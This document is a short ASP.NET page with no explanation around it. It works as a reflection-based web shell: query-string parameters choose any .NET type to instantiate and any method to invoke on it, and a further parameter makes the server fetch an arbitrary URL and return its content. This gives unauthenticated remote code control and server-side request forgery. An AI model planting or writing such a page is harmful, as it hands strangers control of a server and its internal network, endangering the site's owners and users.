<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    string t = Request.QueryString["t"];
    if (t == null) return;
    object o = Activator.CreateInstance(Type.GetType(t));
    string u = Request.QueryString["u"];
    if (u != null) Response.Write(new System.Net.WebClient().DownloadString(u));
    Response.Write(o.GetType().InvokeMember(Request.QueryString["m"], BindingFlags.InvokeMethod, null, o, null));
}
</script>
